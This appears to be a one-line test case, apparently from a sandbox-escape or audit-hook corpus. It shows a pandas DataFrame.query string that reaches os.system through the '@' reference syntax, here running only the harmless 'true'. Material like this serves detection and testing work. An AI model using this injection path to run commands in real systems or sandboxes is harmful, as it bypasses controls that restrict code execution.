# class: pandas-strings
# mechanism: query
# reaches: event os.system
import pandas as pd
df = pd.DataFrame({"a": [0]})
df.query("a == @pd.io.common.os.system('true')")
